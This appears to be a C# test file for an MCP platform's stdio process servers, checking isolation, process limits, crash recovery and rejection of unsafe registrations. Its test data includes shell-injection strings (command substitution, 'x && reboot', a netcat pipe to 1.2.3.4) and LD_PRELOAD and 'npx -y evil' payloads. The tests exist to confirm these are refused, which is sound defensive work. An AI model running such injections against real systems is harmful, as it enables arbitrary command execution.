using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using McpPlatform.Contracts.Identity;
using McpPlatform.McpService.Tests.Relay;
using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;

namespace McpPlatform.McpService.Tests.Stdio;

/// <summary>Servers that run as processes of the platform.</summary>
[Collection(McpServiceCollection.Name)]
public sealed class StdioTests(McpServiceApplication application) : IAsyncLifetime
{
    private readonly List<string> registered = [];
    private readonly HttpClient admin = application.Admin();

    public ValueTask InitializeAsync() => ValueTask.CompletedTask;

    public async ValueTask DisposeAsync()
    {
        foreach (var name in registered)
        {
            await admin.DeleteAsync($"/api/mcp/servers/{name}");
        }

        admin.Dispose();
    }

    [Theory]
    [InlineData("legacy")]
    [InlineData("modern")]
    public async Task A_process_is_a_server_like_any_other(string mode)
    {
        var server = await RegisterAsync(mode);
        Assert.Equal("hello", await CallAsync(server, "echo", new { message = "hello" }));
        Assert.Contains("echo", (await (await admin.GetAsync($"/api/mcp/servers/{server}/tools")).JsonAsync()).GetRawText(), StringComparison.Ordinal);
        using var answer = await admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/echo/call", new { });
        Assert.Contains("\"futureMember\":1.1", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);

        var status = await StatusAsync(server, status => status.GetProperty("status").GetString() == "healthy");
        Assert.Equal(mode == "modern" ? "2026-07-28" : "2025-11-25", status.GetProperty("protocol_version").GetString());
        Assert.InRange(status.GetProperty("processes").GetInt32(), 1, 4);
    }

    [Fact]
    public async Task Fifty_calls_at_once_have_each_its_own_answer_and_progress()
    {
        var server = await RegisterAsync("legacy");
        Assert.Equal("hello", await CallAsync(server, "echo", new { message = "hello" }));
        await Parallel.ForEachAsync(Enumerable.Range(0, 50), new ParallelOptions { MaxDegreeOfParallelism = 3 }, async (i, _) =>
        {
            var more = new JsonObject { ["arguments"] = new JsonObject { ["message"] = $"m{i}" } };
            var messages = await RawMcp.MessagesAsync(await RawMcp.SendModernAsync(admin, "/mcp", $"{server}__progress", [], more));
            Assert.Equal(
                [$"1 p m{i}", $"2 p m{i}", $"3 p m{i}"],
                messages.SkipLast(1).Select(message => $"{message["params"]!["progress"]} {message["params"]!["progressToken"]} {message["params"]!["message"]}"));
            Assert.Equal($"m{i}", (string?)messages[^1]["result"]!["content"]![0]!["text"]);
        });
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_process_can_ask_the_person(bool isModern)
    {
        var server = await RegisterAsync("legacy");
        var handlers = new McpClientHandlers
        {
            ElicitationHandler = (request, _) => ValueTask.FromResult(new ElicitResult { Action = request!.Message.Contains("Really?", StringComparison.Ordinal) ? "accept" : "decline", Content = new Dictionary<string, JsonElement> { ["sure"] = JsonSerializer.SerializeToElement(true) } }),
        };
        await using var client = await application.ConnectAsync("/mcp", isModern, handlers, [.. Permissions.Catalogue.Keys]);
        await client.ListToolsAsync();
        var result = await client.CallToolAsync($"{server}__ask");
        Assert.Contains("\"accept\"", ((TextContentBlock)result.Content[0]).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_call_whose_client_leaves_is_cancelled_in_the_process()
    {
        var server = await RegisterAsync("legacy");
        Assert.Equal("[]", await CallAsync(server, "cancelled"));
        using var leaves = new CancellationTokenSource(TimeSpan.FromMilliseconds(500));
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/slow/call", new { }, leaves.Token));
        await UntilAsync(async () => await CallAsync(server, "cancelled") != "[]");
    }

    [Fact]
    public async Task The_environment_of_the_service_is_not_the_processs()
    {
        Environment.SetEnvironmentVariable("MCPP_TEST_SECRET", "x");
        var server = await RegisterAsync("legacy", new() { ["word"] = "w-1" });
        var names = JsonSerializer.Deserialize<string[]>(await CallAsync(server, "env"))!;
        Assert.Equal(["CHILD_WORD", "HOME", "LANG", "PATH"], names);
    }

    [Theory]
    [InlineData("; touch /tmp/owned")]
    [InlineData("$(touch /tmp/owned)")]
    [InlineData("`touch /tmp/owned`")]
    [InlineData("x && reboot")]
    [InlineData("--version")]
    [InlineData("x\" \"y")]
    [InlineData("* ? ~ {mode}")]
    [InlineData("| nc 1.2.3.4 80 > /dev/null")]
    public async Task Whatever_stands_in_a_hole_stays_within_its_argument(string text)
    {
        // The pattern of this parameter allows everything without an a; the other one allows next to nothing.
        var given = text.Replace('a', 'e');
        var server = await RegisterAsync("legacy", new() { ["text"] = given });
        Assert.Equal(given, await CallAsync(server, "text"));
        await AssertRefusedAsync(new { name = McpServiceApplication.NewName(), transport = "stdio", template = "child", parameters = new { mode = "legacy", word = text } }, "parameters");
    }

    [Fact]
    public async Task Nobody_runs_what_the_operator_has_not_written()
    {
        object With(object? extra) => extra!;
        var name = McpServiceApplication.NewName();
        await AssertRefusedAsync(With(new { name, transport = "stdio" }), "template");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "/bin/sh" }), "template");
        await AssertRefusedAsync(With(new { name, transport = "stdio", command = "npx", args = new[] { "-y", "evil" } }), "args");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "child", env = new { LD_PRELOAD = "/tmp/evil.so" } }), "args");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "child", parameters = new { mode = "legacy", PATH = "/tmp" } }), "parameters");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "child", parameters = new { mode = "other" } }), "parameters");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "child", parameters = new { text = "x" } }), "parameters");
        await AssertRefusedAsync(With(new { name, transport = "stdio", template = "child", url = "http://mcp.example.com", parameters = new { mode = "legacy" } }), "url");
        await AssertRefusedAsync(With(new { name, url = "http://mcp.example.invalid/mcp", template = "child" }), "template");
        using var manager = application.ClientWith(Permissions.McpServersRead, Permissions.McpServersManage);
        await (await manager.PostAsJsonAsync("/api/mcp/servers", new { name, transport = "stdio", template = "child", parameters = new { mode = "legacy" } })).AssertProblemAsync(HttpStatusCode.Forbidden);
        var templates = await (await admin.GetAsync("/api/mcp/stdio/templates")).JsonAsync();
        Assert.Equal("child", templates.GetProperty("items")[0].GetProperty("name").GetString());
        Assert.DoesNotContain("child.mjs", templates.GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Each_user_has_a_process_and_a_server_no_more_than_its_share()
    {
        var server = await RegisterAsync("legacy");
        HashSet<string> processes = [];
        for (var i = 0; i < 3; i++)
        {
            using var user = application.ClientWith([.. Permissions.Catalogue.Keys]);
            var first = await CallAsync(server, "pid", null, user);
            Assert.Equal(first, await CallAsync(server, "pid", null, user));
            processes.Add(first);
        }

        Assert.Equal(3, processes.Count);
        await StatusAsync(server, status => status.GetProperty("processes").GetInt32() == 4);
        using var fifth = application.ClientWith([.. Permissions.Catalogue.Keys]);
        using var refused = await fifth.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/pid/call", new { });
        Assert.Contains("as many processes as it may have", (await refused.AssertProblemAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString(), StringComparison.Ordinal);

        await admin.DeleteAsync($"/api/mcp/servers/{server}");
        await UntilAsync(() => Task.FromResult(processes.All(process => !StdioChild.IsAlive(int.Parse(process)))));
    }

    [Fact]
    public async Task A_process_that_dies_fails_its_call_and_the_next_call_has_a_new_one()
    {
        var server = await RegisterAsync("legacy");
        var first = await CallAsync(server, "pid");
        using var died = await admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/die/call", new { });
        Assert.EndsWith("ended with exit code 5.", (await died.AssertProblemAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString(), StringComparison.Ordinal);
        await UntilAsync(async () =>
        {
            using var again = await admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/pid/call", new { });
            return again.StatusCode == HttpStatusCode.OK && !(await again.Content.ReadAsStringAsync()).Contains(first, StringComparison.Ordinal);
        });
    }

    [Fact]
    public async Task A_command_that_dies_at_once_is_not_started_again_and_again()
    {
        var server = await RegisterAsync("crash");
        await UntilAsync(async () =>
        {
            using var refused = await admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/echo/call", new { });
            return (await refused.AssertProblemAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString()!.Contains("died soon after each of its last", StringComparison.Ordinal);
        });
        var status = await StatusAsync(server, status => status.GetProperty("status").GetString() == "unhealthy");
        Assert.Equal(0, status.GetProperty("processes").GetInt32());
    }

    [Fact]
    public async Task What_floods_or_eats_memory_is_ended_and_nobody_else_with_it()
    {
        var server = await RegisterAsync("legacy");
        Assert.Equal("quiet again", await CallAsync(server, "noise"));
        using var flood = await admin.PostAsJsonAsync($"/api/mcp/servers/{server}/tools/flood/call", new { });
        Assert.Contains("in one message", (await flood.AssertProblemAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString(), StringComparison.Ordinal);
        var hogs = await RegisterAsync("legacy");
        using var hog = await admin.PostAsJsonAsync($"/api/mcp/servers/{hogs}/tools/hog/call", new { });
        Assert.Contains("ended with exit code", (await hog.AssertProblemAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_neither_hears_nor_stops_is_killed_with_its_children()
    {
        var server = await RegisterAsync("stubborn");
        var (process, child) = (int.Parse(await CallAsync(server, "pid")), int.Parse(await CallAsync(server, "spawn")));
        Assert.True(StdioChild.IsAlive(process) && StdioChild.IsAlive(child));
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/mcp/servers/{server}", new { enabled = false })).StatusCode);
        await UntilAsync(() => Task.FromResult(!StdioChild.IsAlive(process) && !StdioChild.IsAlive(child)));
    }

    [Fact]
    public async Task Other_parameters_are_another_process()
    {
        var server = await RegisterAsync("legacy", new() { ["text"] = "one" });
        var process = int.Parse(await CallAsync(server, "pid"));
        Assert.Equal("one", await CallAsync(server, "text"));
        Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/mcp/servers/{server}", new { parameters = new { mode = "modern", text = "two" } })).StatusCode);
        await UntilAsync(async () => await CallAsync(server, "text") == "two");
        await UntilAsync(() => Task.FromResult(!StdioChild.IsAlive(process)));
        using var shown = await admin.GetAsync($"/api/mcp/servers/{server}");
        Assert.Equal("two", (await shown.JsonAsync()).GetProperty("parameters").GetProperty("text").GetString());
        using var reader = application.ClientWith(Permissions.McpServersRead);
        Assert.DoesNotContain("two", await (await reader.GetAsync($"/api/mcp/servers/{server}")).Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    private async Task<string> RegisterAsync(string mode, Dictionary<string, string>? parameters = null)
    {
        var name = McpServiceApplication.NewName();
        parameters = new(parameters ?? [], StringComparer.Ordinal) { ["mode"] = mode };
        Assert.Equal(HttpStatusCode.Created, (await admin.PostAsJsonAsync("/api/mcp/servers", new { name, transport = "stdio", template = StdioChild.Template, parameters })).StatusCode);
        registered.Add(name);
        return name;
    }

    private async Task<string> CallAsync(string server, string tool, object? arguments = null, HttpClient? client = null)
    {
        using var response = await (client ?? admin).PostAsJsonAsync($"/api/mcp/servers/{server}/tools/{tool}/call", new { arguments = arguments ?? new { } });
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, body);
        return (string)JsonNode.Parse(body)!["content"]![0]!["text"]!;
    }

    private async Task<JsonElement> StatusAsync(string server, Func<JsonElement, bool> fits)
    {
        JsonElement status = default;
        await UntilAsync(async () => fits(status = await (await admin.GetAsync($"/api/mcp/servers/{server}/status")).JsonAsync()));
        return status;
    }

    private async Task AssertRefusedAsync(object body, string member)
    {
        using var response = await admin.PostAsJsonAsync("/api/mcp/servers", body);
        await response.AssertInvalidAsync(member);
    }

    private static async Task UntilAsync(Func<Task<bool>> condition)
    {
        using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(15));
        while (!await condition())
        {
            await Task.Delay(50, patience.Token);
        }
    }
}
